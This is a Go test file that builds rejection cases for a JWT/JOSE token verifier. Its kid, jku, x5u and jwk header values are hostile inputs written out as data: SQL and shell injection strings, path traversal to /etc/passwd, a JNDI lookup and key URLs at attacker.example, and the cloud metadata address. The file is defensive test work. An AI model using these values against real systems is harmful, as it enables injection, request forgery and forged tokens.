package josetest

import (
	"encoding/json"
	"strings"

	"github.com/agentidp/agentidp/internal/jose"
)

// keyID signs with the real ec-1 key and names it wrongly, or the other way round.
func (c *corpus) keyID() {
	claims := newClaims()
	c.reject("K", "missing", c.ec(newHeader().drop("kid"), claims), jose.ReasonKeyID, "any key of the set would do")
	for name, raw := range map[string]string{
		"null":   "null",
		"number": "1",
		"array":  `["ec-1"]`,
		"object": `{"ec-1":1}`,
		"bool":   "true",
		"empty":  `""`,
	} {
		c.reject("K", name, c.ec(newHeader().set("kid", raw), claims), jose.ReasonKeyID,
			"kid must be a string of 1 to 128 characters")
	}
	for name, kid := range map[string]string{
		"CRLF":              "ec-1\r\nx: y",
		"NUL":               "ec-1\x00",
		"leading space":     " ec-1",
		"trailing space":    "ec-1 ",
		"homoglyph":         "\u0435c-1",
		"SQL with spaces":   "x' OR '1'='1",
		"shell with spaces": "ec-1; id",
		"129 characters":    strings.Repeat("k", 129),
		"1 MiB":             strings.Repeat("k", 1<<20),
		"zero width":        "ec\u200b-1",
		"tab":               "ec-1\t",
		"DEL":               "ec-1\x7f",
	} {
		reason := jose.ReasonKeyID
		if len(kid) > 1<<10 {
			reason = jose.ReasonMalformed // the token is too long
		}
		c.reject("K", name, c.ec(newHeader().set("kid", quoteJSON(kid)), claims), reason, "kid must be visible ASCII")
	}
	for name, kid := range map[string]string{
		"unknown":            "ec-9",
		"traversal":          "../../../../etc/passwd",
		"absolute path":      "/dev/null",
		"SQL":                "x'/**/OR/**/'1'='1",
		"shell":              "$(id)",
		"other case":         "EC-1",
		"URL":                "https://attacker.example/k",
		"percent-escaped":    "ec%2D1",
		"wildcard":           "*",
		"jndi":               "${jndi:ldap://attacker.example/x}",
		"__proto__":          "__proto__",
		"prefix":             "ec",
		"suffix":             "ec-1x",
		"regular expression": "ec-.",
		"encryption key":     "enc-1",
		"constructor":        "constructor",
	} {
		c.reject("K", name, c.ec(newHeader().set("kid", quoteJSON(kid)), claims), "", "no usable key has this exact kid")
	}
	c.reject("K", "other key's kid", c.ec(newHeader().set("kid", `"ec-2"`), claims), jose.ReasonSignature,
		"the signer is not the key that is named")
	c.reject("K", "attacker as a known kid", join(newHeader().String(), claims.String(), func(signed string) []byte {
		return ecdsaSign(c.keys.ecAttacker, signed)
	}), jose.ReasonSignature, "not the issuer's key")
	c.reject("K", "member twice, good last", c.ec(newHeader().first(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader,
		"parsers differ in which one counts")
	c.reject("K", "member twice, good first", c.ec(newHeader().add(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader,
		"parsers differ in which one counts")
	c.reject("K", "kid of two keys", join(newHeader().set("kid", `"twice-1"`).String(), claims.String(), func(signed string) []byte {
		return ecdsaSign(c.keys.ecTwice, signed)
	}), "", "the set has two keys under this kid: neither is used")
}

// quoteJSON is for text that needs escaping.
func quoteJSON(s string) string { return string(must(json.Marshal(s))) }

// keysInHeader offers a key or the place of one, with the signature of that key and with the issuer's.
func (c *corpus) keysInHeader() {
	attackerKey := "{" + jwkMembers(c.keys.ecAttacker.Public()) + "}"
	attacker := func(signed string) []byte { return ecdsaSign(c.keys.ecAttacker, signed) }
	for _, offer := range []struct{ name, parameter, value string }{
		{"jwk", "jwk", attackerKey},
		{"jwk with kid", "jwk", attackerKey[:len(attackerKey)-1] + `,"kid":"ec-1"}`},
		{"jwk symmetric", "jwk", `{"kty":"oct","k":"AAAA"}`},
		{"jwk null", "jwk", "null"},
		{"jku https", "jku", `"https://attacker.example/jwks.json"`},
		{"jku file", "jku", `"file:///dev/stdin"`},
		{"jku metadata", "jku", `"http://169.254.169.254/latest/meta-data/"`},
		{"jku of the issuer", "jku", quote(Issuer + "/.well-known/jwks.json")},
		{"x5u", "x5u", `"https://attacker.example/chain.pem"`},
		{"x5c", "x5c", `["MIIB"]`},
		{"x5c empty", "x5c", `[]`},
	} {
		header := newHeader().set(offer.parameter, offer.value)
		c.reject("J", offer.name+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonHeader,
			"the key comes with the token")
		c.reject("J", offer.name+", good signature", c.ec(header, newClaims()), jose.ReasonHeader, "a reader behind us might use it")
	}
	c.reject("J", "wrong case", c.ec(newHeader().set("JWK", attackerKey), newClaims()), jose.ReasonHeader,
		"encoding/json would take it for jwk")
	for _, thumbprint := range []string{"x5t", "x5t#S256"} {
		header := newHeader().set(thumbprint, `"dGh1bWJwcmludA"`)
		c.reject("J", thumbprint+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonSignature,
			"a certificate that nobody asked for")
		c.accept("J", thumbprint+", good signature", c.ec(header, newClaims()), "some issuers always send it; it is ignored")
	}
}

// extensions are really signed by ec-1.
func (c *corpus) extensions() {
	for _, x := range []struct{ name, parameter, value, why string }{
		{"crit unknown", "crit", `["exp2"]`, "an extension we do not know must be understood"},
		{"crit empty", "crit", `[]`, "RFC 7515 s4.1.11 forbids it"},
		{"crit registered", "crit", `["alg"]`, "RFC 7515 s4.1.11 forbids it"},
		{"crit string", "crit", `"b64"`, "not a list"},
		{"crit null", "crit", `null`, "not a list"},
		{"crit object", "crit", `{"b64":true}`, "not a list"},
		{"crit number inside", "crit", `[1]`, "not names"},
		{"crit names twice", "crit", `["b64","b64"]`, "RFC 7515 s4.1.11 forbids it"},
		{"crit names what is absent", "crit", `["absent"]`, "RFC 7515 s4.1.11 forbids it"},
		{"b64 true without crit", "b64", `true`, "RFC 7797 s6 wants crit"},
		{"b64 false without crit", "b64", `false`, "the payload would be read unencoded"},
		{"b64 number", "b64", `0`, "false to some"},
		{"b64 string", "b64", `"false"`, "true to some, false to others"},
		{"b64 null", "b64", `null`, "false to some"},
		{"zip", "zip", `"DEF"`, "a compressed payload, or a bomb"},
		{"cty", "cty", `"JWT"`, "the payload would be a token"},
		{"enc", "enc", `"A256GCM"`, "a parameter of encryption"},
		{"epk", "epk", `{}`, "a parameter of encryption"},
		{"p2c", "p2c", `2147483647`, "costs a reader minutes"},
		{"crit in the wrong case", "Crit", `["exp2"]`, "encoding/json would take it for crit"},
		{"alg in the wrong case", "ALG", `"none"`, "encoding/json would take it for alg"},
		{"kid with a Kelvin sign", "\u212aid", `"ec-2"`, "encoding/json folds the Kelvin sign to k"},
	} {
		c.reject("X", x.name, c.ec(newHeader().set(x.parameter, x.value), newClaims()), jose.ReasonHeader, x.why)
	}
	for name, value := range map[string]string{"true": "true", "false": "false"} {
		c.reject("X", "b64 "+name+" with crit", c.ec(newHeader().set("crit", `["b64"]`).set("b64", value), newClaims()), jose.ReasonHeader,
			"RFC 7797, which we do not speak")
	}
	c.reject("X", "crit twice", c.ec(newHeader().add(`"crit"`, `["a"]`).add(`"crit"`, `[]`), newClaims()), jose.ReasonHeader,
		"parsers differ in which one counts")
	unencoded := encode([]byte(newHeader().set("crit", `["b64"]`).set("b64", "false").String())) + "." + newClaims().String()
	c.reject("X", "b64 false, payload unencoded", unencoded+"."+encode(ecdsaSign(c.keys.ec1, unencoded)), jose.ReasonMalformed,
		"RFC 7797 as meant")
	c.accept("X", "unknown parameters", c.ec(newHeader().set("x-trace", `"1"`).set("ver", "2"), newClaims()),
		"RFC 7515 s4: what is not understood is ignored")
}
